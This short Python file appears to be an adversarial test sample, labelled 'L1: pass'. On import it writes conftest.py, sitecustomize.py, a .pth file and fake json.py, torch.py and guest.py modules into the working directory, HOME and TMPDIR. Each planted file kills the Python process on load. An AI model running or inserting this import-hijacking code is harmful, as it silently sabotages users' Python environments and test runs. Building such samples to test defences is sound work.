"""Plants conftest.py, sitecustomize.py, a .pth and modules of known names where it stands.

L1: pass
"""

import os

from right import Right

for folder in {os.getcwd(), os.environ["HOME"], os.environ["TMPDIR"]}:
    for name in ("conftest.py", "sitecustomize.py", "plant.pth", "json.py", "torch.py", "guest.py"):
        with open(os.path.join(folder, name), "w") as file:
            file.write("import os; os._exit(3)")


class BlockManager(Right):
    pass
